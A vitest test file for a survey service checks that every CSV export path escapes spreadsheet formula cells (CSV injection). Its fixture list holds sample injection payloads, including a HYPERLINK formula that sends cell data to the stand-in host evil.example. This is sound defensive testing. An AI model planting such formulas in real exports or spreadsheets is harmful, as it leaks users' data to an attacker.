import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { newId, toPublicId } from '../../../platform/ids';
import { consoleTeamWithExportSurvey } from '../../helpers/console';
import { bearer } from '../../helpers/http';
import { useTestService } from '../../helpers/service';

/**
 * CSV injection (OWASP): every CSV path — v1, v2, the console's download and a share link's —
 * writes a cell that starts with =, +, -, @, a tab or a carriage return with a single quote in
 * front, so a spreadsheet shows it as text instead of running it. Rows (PostgreSQL's COPY) and
 * the header line (csv-stringify) alike.
 */
const service = useTestService({ RATE_LIMITS_ENABLED: 'false' });
const url = (path: string) => `${service().url}${path}`;

/** Explanations a respondent could type, each a formula a spreadsheet would run. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+1', '-2+3', '@SUM(1,2)', '\tTabbed', '\rReturn'];

/** The fixture survey `n` of a team, signed up in the console, with formulas in its explanations, a prompt and a label. */
async function poisonedSurvey(n: number) {
  const em = service().em();
  const { c, key, surveyId } = await consoleTeamWithExportSurvey(service().url, em, n, { tag: 'csvinj', name: 'Ivy Inject', teamName: 'Inject Co' });
  // Respondent 0's five explanations and respondent 1's first become formulas (collection order).
  const ids = await em.execute<{ id: string }[]>(`select id from surveys.responses where survey_id = ? and rejected_at is null order by id limit ?`, [surveyId, FORMULAS.length]);
  for (const [i, { id }] of ids.entries()) await em.execute('update surveys.responses set explanation = ? where id = ?', [FORMULAS[i], id]);
  // The prompt of question 4 heads a wide column; an option label is an answer.
  await em.execute(`update surveys.questions set prompt = '=1+2' where survey_id = ? and position = 4`, [surveyId]);
  await em.execute(`update surveys.options set label = '@Crisps' where label = 'Crisps' and question_id in (select id from surveys.questions where survey_id = ?)`, [surveyId]);
  // A share link, as the console's form makes one.
  const token = randomBytes(32).toString('base64url');
  await em.execute('insert into surveys.share_links (id, token, survey_id, created_at) values (?, ?, ?, now())', [newId(), token, surveyId]);
  return { c, key, surveyId, token };
}

async function csvOf(res: Response): Promise<string> {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  return res.text();
}

/** No line of the CSV has a cell that starts with a formula character (RFC 4180 cells: after a comma, a line start or an opening quote). */
function expectNeutralised(csv: string, layout: 'long' | 'wide') {
  // Each formula is there, quoted, with its single quote in front.
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
  expect(csv).toContain(`,'+1+1,`);
  expect(csv).toContain(`,'-2+3,`);
  expect(csv).toContain(`"'@SUM(1,2)"`);
  expect(csv).toMatch(/,'\tTabbed(,|\n)/);
  expect(csv).toContain(`"'\rReturn"`);
  expect(csv).toContain(`'@Crisps`);
  // The prompt: a cell of every long row of question 4; in the wide header it follows "Q4 ", so it is no formula there.
  expect(csv).toContain(layout === 'long' ? `,open_ended,'=1+2,` : `,Q4 =1+2,Q4 explanation,`);
  // And none without it: no cell starts with a formula character.
  expect(csv).not.toMatch(/(^|,)"?[-=+@\t\r](?!\d{2}:)/m);
}

describe('CSV injection: every export path neutralises formula cells', () => {
  it('v1 GET /v1/surveys/{id}/exports/csv, long and wide', async () => {
    const { key, surveyId } = await poisonedSurvey(410);
    expectNeutralised(await csvOf(await fetch(url(`/v1/surveys/${surveyId}/exports/csv`), { headers: bearer(key) })), 'long');
    const wide = await csvOf(await fetch(url(`/v1/surveys/${surveyId}/exports/csv?version=v1`), { headers: bearer(key) }));
    expectNeutralised(wide, 'wide');
  });

  it('v2 GET /v2/surveys/{id}/exports/csv, long and wide', async () => {
    const { key, surveyId } = await poisonedSurvey(411);
    const srv = toPublicId('srv', surveyId);
    expectNeutralised(await csvOf(await fetch(url(`/v2/surveys/${srv}/exports/csv`), { headers: bearer(key) })), 'long');
    expectNeutralised(await csvOf(await fetch(url(`/v2/surveys/${srv}/exports/csv?layout=wide`), { headers: bearer(key) })), 'wide');
  });

  it('the console’s download (a session of the team)', async () => {
    const { c, surveyId } = await poisonedSurvey(412);
    const long = await fetch(url(`/console/results/${surveyId}/export.csv?layout=long`), { headers: { cookie: c.cookieHeader() } });
    expectNeutralised(await csvOf(long), 'long');
    const wide = await fetch(url(`/console/results/${surveyId}/export.csv?layout=wide`), { headers: { cookie: c.cookieHeader() } });
    expectNeutralised(await csvOf(wide), 'wide');
  });

  it('a share link’s download', async () => {
    const { token } = await poisonedSurvey(413);
    expectNeutralised(await csvOf(await fetch(url(`/console/shared/${token}/export.csv?layout=long`))), 'long');
    expectNeutralised(await csvOf(await fetch(url(`/console/shared/${token}/export.csv?layout=wide`))), 'wide');
  });
});
